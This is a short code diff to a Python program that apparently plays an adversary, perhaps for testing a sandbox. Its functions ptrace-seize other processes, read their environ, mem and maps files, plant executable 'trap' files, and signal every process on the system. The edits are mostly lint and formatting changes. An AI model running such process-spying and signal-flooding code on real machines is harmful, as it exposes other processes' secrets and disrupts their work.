@@ -35,7 +35,7 @@ def write(path: str, text: str) -> None:
     try:
         with open(path, "x") as file:
             file.write(text)
-        os.chmod(path, 0o755)
+        os.chmod(path, 0o755)  # noqa: S103 - a trap is to be stepped into
     except OSError:
         pass
 
@@ -51,7 +51,9 @@ def look_into() -> None:
         for pid in others():
             if pid == os.getpid():
                 continue
-            if "UNTRACED" not in os.environ:  # where debuggers may be used, attacks trace themselves
+            if (
+                "UNTRACED" not in os.environ
+            ):  # where debuggers may be used, attacks trace themselves
                 libc.ptrace(PTRACE_SEIZE, pid, 0, 0)
             for name in ("environ", "mem", "maps"):
                 try:
@@ -76,7 +78,7 @@ def harass() -> None:
                     act()
                 except OSError:
                     pass
-        for number in (signal.SIGCONT, signal.SIGURG, signal.SIGWINCH):
+        for number in (signal.SIGURG, signal.SIGWINCH):
             os.kill(-1, number)
         time.sleep(0.02)
 
